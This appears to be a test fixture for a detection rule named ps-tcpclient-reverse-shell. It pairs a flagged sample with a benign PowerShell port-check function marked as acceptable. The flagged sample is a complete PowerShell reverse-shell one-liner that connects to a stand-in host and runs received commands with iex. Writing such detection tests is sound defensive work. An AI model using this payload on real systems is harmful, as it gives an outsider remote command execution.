# ruleid: ps-tcpclient-reverse-shell
$c = New-Object System.Net.Sockets.TCPClient('203.0.113.7', 443); $s = $c.GetStream(); [byte[]]$b = 0..65535|%{0}; while(($i = $s.Read($b, 0, $b.Length)) -ne 0){ $d = (New-Object Text.ASCIIEncoding).GetString($b, 0, $i); $o = (iex $d 2>&1 | Out-String); $s.Write(([text.encoding]::ASCII).GetBytes($o), 0, $o.Length) }
# ===== block =====
function Test-Port($HostName, $Port) {
    # ok: ps-tcpclient-reverse-shell
    $client = New-Object System.Net.Sockets.TcpClient
    $client.Connect($HostName, $Port)
    $stream = $client.GetStream()
    $open = $client.Connected
    $client.Close()
    return $open
}
